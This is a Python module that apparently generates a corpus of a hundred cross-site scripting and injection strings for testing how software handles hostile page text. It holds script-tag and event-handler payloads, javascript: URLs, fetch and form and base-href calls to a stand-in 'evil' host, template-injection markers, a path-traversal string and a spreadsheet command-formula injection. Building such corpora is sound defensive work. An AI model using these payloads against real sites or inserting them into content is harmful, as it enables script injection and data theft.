"""A hundred hostile texts: what a publisher, or whoever writes a page, may put where words are."""

from collections.abc import Iterator
from itertools import cycle, islice

HOW_MANY = 100
# What each wants to run, without a full stop, at which the small reader ends a sentence.
ACTIONS = ("alert(1)", "fetch('//evil')", "top['al'+'ert'](1)")
# Ways out of text, an attribute, a title, a comment, a script, a style, an SVG drawing.
EXITS = (
    "",
    '">',
    "'>",
    "</title>",
    "-->",
    "</script>",
    "</style>",
    "</svg>",
    "</a>",
    "`>",
    "\x00>",
)
# What a browser would run where it took the text for markup.
CARRIERS = (
    "<script>{action}</script>",
    "<img src=x onerror={action}>",
    "<svg onload={action}>",
    "<svg><script>{action}</script></svg>",
    "<a href='javascript:{action}'>here</a>",
    "<iframe srcdoc='<script>{action}</script>'></iframe>",
    "<math><mtext><style><img src=x onerror={action}>",
    "<style>*{{background:url(javascript:{action})}}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{action}'>",
    "<base href='//evil/'>",
    "<form action='//evil'><button>{action}",
    "<object data='javascript:{action}'>",
    "<details open ontoggle={action}>",
    "<scr\x00ipt>{action}</scr\x00ipt>",
)
# What is no markup, and harms where it is shown or filled into a template or an address.
OTHERS = (
    "javascript:{action}",
    '" onmouseover={action} x="',
    "' autofocus onfocus={action} x='",
    "{{{{ {action} }}}} {{% raw %}}",
    "${{{action}}} <%= {action} %>",
    "&lt;script&gt;{action}&lt;/script&gt;",
    "\u202e{action}\u2066 \u200bRussia",
    "%3Cscript%3E{action}%3C/script%3E",
    "+ADw-script+AD4-{action}+ADw-/script+AD4-",
    "\ufeff\u2028<b onclick={action}>\u2029",
    "../../etc/passwd?{action}#x",
    "=cmd|' /C {action}'!A0",
    "A" * 3000 + "<i onclick={action}>",
)


def hostile_texts() -> Iterator[str]:
    """Yield a hundred texts, each another way out with another thing to run."""
    actions = cycle(ACTIONS)
    yield from (text.format(action=next(actions)) for text in OTHERS)
    # The numbers of exits and carriers have no common divisor, so no pair comes twice.
    pairs = zip(cycle(EXITS), cycle(CARRIERS), strict=False)
    for way_out, carrier in islice(pairs, HOW_MANY - len(OTHERS)):
        yield way_out + carrier.format(action=next(actions))
